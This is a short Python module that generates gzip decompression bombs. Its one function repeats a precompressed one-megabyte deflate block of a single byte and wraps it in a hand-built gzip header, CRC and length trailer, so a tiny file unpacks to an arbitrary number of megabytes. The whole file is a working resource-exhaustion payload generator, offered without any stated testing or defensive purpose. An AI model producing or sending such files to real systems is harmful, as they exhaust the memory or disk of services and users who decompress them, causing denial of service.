"""Gzip files of one byte over and over: bombs, made without compressing all that they unpack to."""

import struct
import zlib

MB = 2**20


def compress_run(letter: bytes, megabytes: int) -> bytes:
    """Return the gzip file of so many megabytes of ``letter``. Each is one block, which does not refer to another."""
    piece = letter * MB
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(piece, check)
    head, last = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff", b"\x03\0"
    return head + block * megabytes + last + struct.pack("<LL", check, megabytes * MB)
